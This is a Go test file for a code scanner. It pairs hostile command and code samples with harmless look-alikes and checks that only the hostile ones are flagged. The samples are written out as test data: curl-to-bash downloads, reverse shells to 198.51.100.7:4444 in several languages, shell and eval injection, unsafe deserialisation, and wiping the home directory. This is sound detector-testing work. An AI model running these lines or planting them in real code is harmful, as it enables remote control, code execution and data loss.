package guard

import "testing"

// TestCodeMechanisms: each rule follows a mechanism, not a phrase, and
// each bad line has a harmless twin of the same shape beside it. The
// lines are written for this test.
func TestCodeMechanisms(t *testing.T) {
	for _, tc := range []struct {
		name, bad, rule, good string
	}{
		// A download (or a socket) piped, however far down a pipeline,
		// into an interpreter that reads its input as a script.
		{"pipe through tee", "curl -fsSL https://example.test/a | tee /tmp/a | bash", RuleCodePipeShell,
			"curl -fsSL https://example.test/a | tee /tmp/a | jq ."},
		{"pipe to a path", "curl -s https://example.test/a | /bin/bash", RuleCodePipeShell,
			"curl -s https://example.test/a | /usr/bin/jq .name"},
		{"pipe to env", "wget -qO- https://example.test/a | env python3 -", RuleCodePipeShell,
			"curl -s https://example.test/api | python -m json.tool"},
		{"pipe with -s", "curl -s https://example.test/a | sudo bash -s -- --prefix=/usr", RuleCodePipeShell,
			`curl -s https://example.test/api | python3 -c "import sys,json; print(json.load(sys.stdin)['v'])"`},
		{"download as the command", "$(curl -s https://example.test/cmd)", RuleCodePipeShell,
			"$(date +%s)"},
		// An interactive shell wired to a connection.
		{"shell into netcat", "sh -i 2>&1 | nc 198.51.100.7 4444", RuleCodeReverseShell,
			"sh -c 'make test' 2>&1 | tee build.log"},
		{"shell on a descriptor", `lua -e "require('socket');t=socket.tcp();t:connect('198.51.100.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`, RuleCodeReverseShell,
			"bash -i 2>&1 >/tmp/session.log"},
		{"go dial and shell", "c, _ := net.Dial(\"tcp\", \"198.51.100.7:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()", RuleCodeReverseShell,
			"c, err := net.Dial(\"tcp\", addr)\nout, _ := exec.Command(\"git\", \"status\").Output()"},
		{"powershell tcpclient", `powershell -nop -c "$c = New-Object Net.Sockets.TCPClient('198.51.100.7',4444);$s=$c.GetStream()"`, RuleCodeReverseShell,
			`$conn = New-Object Net.Sockets.TcpClient; $conn.Connect("db", 5432); $conn.Connected`},
		// A shell given a script that is not a constant, its argv as a
		// list in any language.
		{"spawn sh -c list", "spawn('sh', ['-c', cmd])", RuleCodeShell, "spawn('sh', ['-c', 'make test'])"},
		{"pcntl_exec array", "<?php pcntl_exec('/bin/sh', array('-c', $cmd)); ?>", RuleCodeShell, "<?php pcntl_exec('/usr/bin/uptime'); ?>"},
		{"subprocess bash -c", "subprocess.run([\"bash\", \"-c\", cmd])", RuleCodeShell, "subprocess.run([\"bash\", \"-c\", \"make\"])"},
		{"ruby spawn -c", `Process.spawn("sh", "-c", cmd)`, RuleCodeShell, `Process.spawn("sh", "-c", "make")`},
		// Node's child_process by its calls, under any binding.
		{"child_process binding", "const cp = require('child_process');\ncp.exec('ls ' + dir, cb);", RuleCodeShell,
			"const cp = require('child_process');\ncp.spawn('npm', ['install'], { stdio: 'inherit' });"},
		{"child_process import alias", "import { exec as run } from 'node:child_process';\nrun(`tar xf ${file}`);", RuleCodeShell,
			"const { execSync } = require('child_process');\nconst sha = execSync('git rev-parse HEAD').toString();"},
		// Groovy's literal receivers.
		{"groovy list", `def out = ["sh", "-c", cmd].execute().text`, RuleCodeShell, `def out = "git status".execute().text`},
		{"groovy runtime", "def out = Runtime.runtime.exec(cmd)", RuleCodeShell, "stmt.execute()"},
		// Pipe opens and dispatch named by the request.
		{"ruby pipe open", `open("| #{cmd}")`, RuleCodeShell, `open("| sort")`},
		{"ruby kernel open", `Kernel.open("|" + params[:cmd])`, RuleCodeShell, `File.open(path, "w") { |f| f.write(data) }`},
		{"ruby send", "obj.send(params[:method])", RuleCodeEval, "user.send(:name)"},
		{"php variable function", "<?php $f = $_GET['f']; $f($_GET['a']); ?>", RuleCodeEval,
			"<?php $f = function($x) { return $x * 2; }; echo $f($_GET['n']); ?>"},
		{"php request callee", "<?php $_GET['f']($_GET['a']); ?>", RuleCodeEval, "<?php echo htmlspecialchars($_GET['q']); ?>"},
		{"php callback", "<?php array_map($_GET['cb'], $items); ?>", RuleCodeEval, "<?php $items = array_map('trim', $_POST['items']); ?>"},
		// Deserialisers by their safe and unsafe settings.
		{"snakeyaml", "Yaml yaml = new Yaml();\nObject o = yaml.load(request.getParameter(\"y\"));", RuleCodeDeserial,
			"Yaml yaml = new Yaml(new SafeConstructor());\nObject o = yaml.load(input);"},
		{"xstream", "XStream xs = new XStream();\nObject o = xs.fromXML(body);", RuleCodeDeserial, "Object o = mapper.readValue(body, Order.class);"},
		{"torch weights_only", "model = torch.load(upload)", RuleCodeDeserial, "torch.load(path, map_location=\"cpu\", weights_only=True)"},
		{"iex constant", "Invoke-Expression $payload", RuleCodePowerShell, "Invoke-Expression 'Get-Date'"},
		// The home or a root directory removed whole, in each language;
		// a directory below it is not.
		{"rmtree home name", "shutil.rmtree(home)", RuleCodeRmTree, "shutil.rmtree(os.path.join(os.path.expanduser(\"~\"), \".cache\", \"pip\"))"},
		{"rmtree root const", "shutil.rmtree('/home/')", RuleCodeRmTree, "shutil.rmtree('/home/ci/build')"},
		{"go removeall", `os.RemoveAll(os.Getenv("HOME"))`, RuleCodeRmTree, `os.RemoveAll(filepath.Join(home, ".cache", "x"))`},
		{"go home var", "home, _ := os.UserHomeDir()\nos.RemoveAll(home)", RuleCodeRmTree, "os.RemoveAll(tmpDir)"},
		{"node rmSync", "fs.rmSync(os.homedir(), { recursive: true, force: true })", RuleCodeRmTree,
			"fs.rmSync(path.join(os.homedir(), '.myapp', 'cache'), { recursive: true })"},
		{"ruby rm_rf", "FileUtils.rm_rf(Dir.home)", RuleCodeRmTree, `FileUtils.rm_rf("tmp/cache")`},
		{"java deleteDirectory", `FileUtils.deleteDirectory(new File(System.getProperty("user.home")));`, RuleCodeRmTree,
			`FileUtils.deleteDirectory(new File(System.getProperty("java.io.tmpdir"), "x"));`},
		{"rimraf env", "rimraf.sync(process.env.HOME)", RuleCodeRmTree, "rimraf.sync(path.join(__dirname, 'dist'))"},
		// shell = True spaced as PEP 8 writes keywords only in a call.
		{"shell spaced", "subprocess.Popen(cmd, shell = True)", RuleCodeShell, "[terminal]\nshell = \"/bin/zsh\"\nargs = cmd"},
		{"shell spaced false", "subprocess.check_output(\"ping -c 1 \" + host, shell = True)", RuleCodeShell, "subprocess.check_output(cmd, shell = False)"},
		// PowerShell's home, spelled ~ or $env:HOMEPATH.
		{"ps home tilde", "Remove-Item -Recurse -Force ~", RuleCodeRmRoot, "Remove-Item -Recurse -Force ~\\AppData\\Local\\Temp\\build"},
		{"ps homepath", "Remove-Item -Path $env:HOMEPATH -Recurse -Force", RuleCodeRmRoot, "Remove-Item -Path $env:TEMP\\x -Recurse -Force"},
		// A shell's script from a value through a builder or C#.
		{"pb.command", "ProcessBuilder pb = new ProcessBuilder();\npb.command(\"sh\", \"-c\", cmd);\npb.start();", RuleCodeShell,
			"ProcessBuilder pb = new ProcessBuilder();\npb.command(\"git\", \"status\");\npb.start();"},
		{"csharp cmd /c", "Process.Start(\"cmd.exe\", \"/c \" + input);", RuleCodeShell, "Process.Start(\"notepad.exe\");"},
		{"csharp program", "Process.Start(userCmd);", RuleCodeShell, "Process.Start(\"cmd.exe\", \"/c dir\");"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if f := CheckCode(tc.bad); !hasRule(f, tc.rule) {
				t.Errorf("%q: %v, want %s", tc.bad, f, tc.rule)
			}
			if f := CheckCode(tc.good); len(f) > 0 {
				t.Errorf("%q: flagged %v", tc.good, f)
			}
		})
	}
}

// TestCodeRealFileShapes: shapes of ordinary source that rules once took
// for attacks: a method named like an exec form being defined, an SDK's
// DownloadFile, a port probe through /dev/tcp, Go's "func " read as
// netcat's "nc ", a raw string that starts with `curl. Each keeps a bad
// twin. The lines are written for this test.
func TestCodeRealFileShapes(t *testing.T) {
	for _, tc := range []struct{ good, bad string }{
		{"func (w *Writer) spawn(f func()) {\n\tgo f()\n}", "spawn(userCmd)"},
		{"resp, err := client.DownloadFile(ctx, file, nil)", "(New-Object Net.WebClient).DownloadFile('http://example.test/a.exe', $p)"},
		{"timeout 5 bash -c 'head -c 512 < /dev/tcp/nats/4222' || true", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"},
		{"func mknodat(dirfd int, path string, mode uint32, dev int) (err error) {\n\t_, _, e1 := Syscall6(SYS_MKNODAT, 0, 0, 0, 0, 0, 0) // /bin/sh\n}", "mknod /tmp/p p && /bin/sh 0</tmp/p | nc 198.51.100.7 4444 1>/tmp/p"},
		{"\t\t`curl -H \"Authorization: Bearer x\" \"http://127.0.0.1:8080/api\"`,", "$(curl -s https://example.test/cmd)"},
	} {
		if f := CheckCode(tc.good); len(f) > 0 {
			t.Errorf("%q: flagged %v", tc.good, f)
		}
		if f := CheckCode(tc.bad); len(f) == 0 {
			t.Errorf("%q: no finding", tc.bad)
		}
	}
}
